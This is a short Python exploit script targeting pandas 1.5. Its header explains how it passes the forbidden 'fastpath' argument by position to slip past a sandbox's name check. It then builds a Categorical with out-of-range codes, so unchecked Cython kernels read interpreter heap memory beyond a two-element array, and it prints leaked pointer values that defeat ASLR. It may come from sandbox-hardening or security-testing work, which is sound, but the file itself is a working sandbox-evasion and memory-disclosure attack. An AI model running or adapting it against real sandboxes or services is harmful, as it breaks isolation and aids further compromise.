# source: pandas 1.5 Categorical.__init__ fastpath (5th positional parameter; codes not validated) and the Cython
#         take_1d_float64_float64 / take_1d_object_object kernels (boundscheck(False), wraparound(False))
# family: refused parameter name reached by position (fastpath is in forbidden_names; the check only refuses it as a name)
# goal: relative out-of-bounds read of the interpreter heap (any offset, both directions, via int64 codes): leaks
#       pointers (ASLR) and heap bytes -- the memory primitive the check refuses as id()/memoryview/frombuffer/strides
import numpy as np
import pandas as pd

cats = np.array([0.0, 1.0])
codes = np.arange(-64, 64, dtype=np.int64)
c = pd.Categorical(codes, cats, False, None, True)
leak = np.asarray(c).view(np.uint64)
ptrs = [hex(int(x)) for x in leak if 0x7F0000000000 <= int(x) < 0x800000000000]
print("leaked", len(leak), "words beyond a 2-element array; pointer-like values:", ptrs[:8])
